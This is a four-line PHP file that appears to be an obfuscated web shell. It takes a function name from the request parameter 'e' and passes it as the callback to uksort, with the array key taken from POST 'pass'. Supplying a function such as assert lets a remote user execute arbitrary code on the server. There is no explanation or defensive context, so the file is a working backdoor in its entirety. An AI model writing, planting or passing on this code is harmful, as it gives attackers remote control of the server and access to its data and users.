<?php
$e = $_REQUEST['e'];
$arr = array($_POST['pass'] => 1, '' => 2);
uksort($arr, $e);
